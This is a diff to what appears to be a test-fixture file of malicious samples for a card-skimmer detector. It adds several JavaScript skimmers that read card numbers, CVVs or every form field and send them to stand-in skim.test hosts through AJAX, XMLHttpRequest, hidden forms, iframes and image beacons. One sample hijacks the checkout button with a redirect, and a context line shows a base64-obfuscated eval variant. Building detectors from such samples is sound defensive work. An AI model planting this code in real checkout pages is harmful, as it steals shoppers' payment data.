@@ -221,4 +221,53 @@ export const skimmers: readonly MaliciousSample[] = [
     `var t = '${base64("var f=document.querySelector('#cc-number');f.addEventListener('blur',function(){new Image().src='https://inner.skim.test/?'+btoa(f.value+document.querySelector('#cc-cvv').value)})")}';
     setTimeout(function () { eval(atob(t)); }, 1000);`,
   ),
+  skimmer(
+    'library-callback',
+    'Uses a library that passes itself to a callback, and ignores the response',
+    `jQuery17(document).ready(function (k) {
+      k('form').on('change', function () {
+        var all = ''; var f = document.querySelectorAll('input, select'); for (var i = 0; i < f.length; i++) all += f[i].name + '=' + f[i].value + '&';
+        k.ajax({ url: 'https://library.skim.test/a.php', type: 'POST', data: all, success: function (r) { return false; }, error: function () { return false; } });
+      });
+    });`,
+  ),
+  skimmer(
+    'status-only',
+    'Sends card fields and looks only whether they arrived',
+    `document.getElementById('pay').onclick = function () {
+      var d = 'n=' + document.getElementById('card_number').value + '&c=' + document.getElementById('card_cvv').value, x = new XMLHttpRequest();
+      x.onreadystatechange = function () { if (x.readyState === 4 && x.status === 200) done = 1; };
+      x.open('POST', 'https://status.skim.test/l.php', true); x.send(d);
+    };`,
+  ),
+  skimmer(
+    'made-form',
+    'Copies the fields of the payment into a form that the library makes',
+    `jQuery('#payment_form_card').on('change', 'input', function () {
+      var f = jQuery('<form method="post" target="h" action="https://form.skim.test/s"></form>');
+      jQuery('#payment_form_card :input').each(function () { f.append(jQuery('<input type=hidden>').attr('name', this.name).val(jQuery(this).val())); });
+      f.appendTo('body').submit();
+    });`,
+  ),
+  skimmer(
+    'button-led-elsewhere',
+    'Replaces what the payment button does by a redirect',
+    `jQuery(function () { jQuery('#checkout-place-order').attr('onclick', 'paySafely();'); });
+    function paySafely() { jQuery(location).attr('href', '//pay.skim.test/?shop=' + btoa(location.host)); }`,
+  ),
+  skimmer(
+    'name-in-itself',
+    'A function whose name is a variable inside of it collects the fields for a hidden frame',
+    `function put(u) { var f = document.createElement('IFRAME'); f.setAttribute('src', u); f.style.display = 'none'; document.body.appendChild(f); }
+    window.onload = function () {
+      function e() { var e = 'host=' + location.host; e += '&n=' + document.getElementById('cc_number').value; return e + '&c=' + document.getElementById('cc_cid').value; }
+      document.getElementById('buttons').onclick = function () { var n = e(); put('https://itself.skim.test/?' + n); };
+    };`,
+  ),
+  skimmer(
+    'page-of-scripts',
+    'A page with several scripts, one of which takes the form',
+    `<!doctype html><html><body><script>var shop = { id: 1 };</script><form><input name="cc_number"></form>
+    <script>document.forms[0].onsubmit = function (e) { new Image().src = 'https://page.skim.test/?' + btoa(this.cc_number.value); };</script></body></html>`,
+  ),
 ];
